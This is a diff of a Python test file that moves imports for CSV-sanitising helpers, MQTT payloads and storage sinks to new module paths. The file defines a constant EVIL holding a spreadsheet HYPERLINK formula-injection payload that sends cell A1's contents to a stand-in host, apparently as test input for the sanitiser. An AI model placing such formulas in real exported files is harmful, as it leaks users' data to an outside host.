@@ -12,10 +12,10 @@ import urllib.request
 import pytest
 from test_fleet import summary
 
-from emoedge.edge.csvcells import safe_cell, safe_row
-from emoedge.edge.mqtt import interval_payload
-from emoedge.edge.records import RunInfo
-from emoedge.edge.sinks import SqliteSink
+from emoedge.core.csvcells import safe_cell, safe_row
+from emoedge.edge.outputs.mqtt import interval_payload
+from emoedge.edge.outputs.records import RunInfo
+from emoedge.edge.outputs.sinks import SqliteSink
 from emoedge.fleet import FleetStore, FleetWeb
 
 EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
